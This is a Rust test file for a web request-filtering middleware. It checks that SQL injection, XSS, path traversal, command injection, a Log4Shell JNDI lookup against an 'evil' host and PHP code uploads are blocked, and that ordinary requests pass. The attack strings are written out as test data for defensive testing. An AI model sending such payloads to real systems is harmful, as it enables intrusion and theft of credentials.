//! The built-in ruleset: attacks are blocked, ordinary traffic passes.
//! Requests go through the real layer in process (tower `oneshot`); the
//! HTTP-level tests are in `http.rs`.

use std::convert::Infallible;

use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use rasp_tower::{PeerAddr, RaspLayer, Rules};
use tower::{ServiceBuilder, ServiceExt};

fn rules() -> Rules {
    match Rules::embedded() {
        Ok(r) => r,
        Err(e) => {
            let detail = e
                .compile_errors()
                .map(|e| e.to_string())
                .unwrap_or_default();
            panic!("embedded rules do not compile: {e}\n{detail}")
        }
    }
}

async fn send(rules: &Rules, req: Request<Full<Bytes>>) -> (StatusCode, Bytes) {
    let svc = ServiceBuilder::new()
        .layer(RaspLayer::new(rules.clone()))
        .service_fn(
            |req: Request<rasp_tower::rasp::RaspRequestBody<Full<Bytes>>>| async move {
                let body = req
                    .into_body()
                    .collect()
                    .await
                    .map(|c| c.to_bytes())
                    .unwrap_or_default();
                Ok::<_, Infallible>(Response::new(Full::new(body)))
            },
        );
    let mut req = req;
    req.extensions_mut()
        .insert(PeerAddr("192.0.2.10:50000".parse().unwrap()));
    let res = svc.oneshot(req).await.unwrap();
    let status = res.status();
    (status, res.into_body().collect().await.unwrap().to_bytes())
}

fn get(uri: &str) -> Request<Full<Bytes>> {
    Request::get(uri)
        .header("host", "example.com")
        .header("user-agent", "test/1.0")
        .body(Full::default())
        .unwrap()
}

fn post(uri: &str, ct: &str, body: &str) -> Request<Full<Bytes>> {
    Request::post(uri)
        .header("host", "example.com")
        .header("content-type", ct)
        .body(Full::new(Bytes::from(body.to_string())))
        .unwrap()
}

#[tokio::test]
async fn attacks_are_blocked() {
    let rules = rules();
    let attacks: Vec<(&str, Request<Full<Bytes>>)> = vec![
        ("sqli in query", get("/search?q=1%27%20OR%20%271%27%3D%271")),
        (
            "sqli union",
            get("/item?id=1%20UNION%20SELECT%20password%20FROM%20users--"),
        ),
        (
            "xss in query",
            get("/?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ),
        (
            "xss event handler",
            get("/?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ),
        (
            "seed example",
            post(
                "/form",
                "application/x-www-form-urlencoded",
                "comment=<SCRIPT>x",
            ),
        ),
        (
            "sqli in form",
            post(
                "/login",
                "application/x-www-form-urlencoded",
                "user=admin%27--&pass=x",
            ),
        ),
        (
            "sqli in json",
            post("/api", "application/json", r#"{"id":"1' or 1=1--"}"#),
        ),
        ("traversal", get("/files?path=..%2F..%2F..%2Fetc%2Fpasswd")),
        ("traversal in path", get("/static/..%2f..%2fetc/hosts")),
        ("rce", get("/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow")),
        ("rce subshell", get("/?a=%24(whoami)")),
        (
            "log4shell",
            get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"),
        ),
        (
            "php",
            post(
                "/upload",
                "application/x-www-form-urlencoded",
                "code=<?php system('id'); ?>",
            ),
        ),
        ("nul byte", get("/?file=a%00.txt")),
        (
            "bad method",
            Request::builder()
                .method("TRACK")
                .uri("/")
                .header("host", "x")
                .body(Full::default())
                .unwrap(),
        ),
    ];
    let mut passed = Vec::new();
    for (name, req) in attacks {
        let (status, body) = send(&rules, req).await;
        if status.is_success() {
            passed.push(name);
        } else {
            // The block body names the transaction, never the rule.
            let text = String::from_utf8_lossy(&body);
            assert!(text.contains("transaction id:"), "{name}: {text}");
            assert!(
                !text.contains("91004") && !text.contains("rule"),
                "{name}: {text}"
            );
        }
    }
    assert!(passed.is_empty(), "attacks not blocked: {passed:?}");
}

#[tokio::test]
async fn benign_traffic_passes() {
    let rules = rules();
    let benign: Vec<(&str, Request<Full<Bytes>>)> = vec![
        ("home", get("/")),
        ("search", get("/search?q=rust+tower+middleware&page=2")),
        ("apostrophe", get("/search?q=O%27Reilly%20books")),
        (
            "select word",
            get("/?q=please%20select%20a%20size%20from%20the%20list"),
        ),
        ("dots", get("/files/report.v2..final.pdf")),
        ("email", get("/?email=someone%40example.com")),
        (
            "form",
            post(
                "/login",
                "application/x-www-form-urlencoded",
                "user=alice&pass=S3cret%21&remember=on",
            ),
        ),
        (
            "json",
            post(
                "/api/items",
                "application/json",
                r#"{"name":"chair","tags":["a","b"],"price":12.5}"#,
            ),
        ),
        ("math", get("/calc?expr=1%2B2%3D3")),
        ("semicolon text", get("/?note=first%3B%20second")),
    ];
    let mut blocked = Vec::new();
    for (name, req) in benign {
        let (status, _) = send(&rules, req).await;
        if !status.is_success() {
            blocked.push((name, status));
        }
    }
    assert!(blocked.is_empty(), "benign requests blocked: {blocked:?}");
}

#[tokio::test]
async fn benign_body_reaches_the_service_unchanged() {
    let rules = rules();
    let body = "user=alice&note=hello%20world";
    let (status, echoed) = send(
        &rules,
        post("/f", "application/x-www-form-urlencoded", body),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(&echoed[..], body.as_bytes());
}
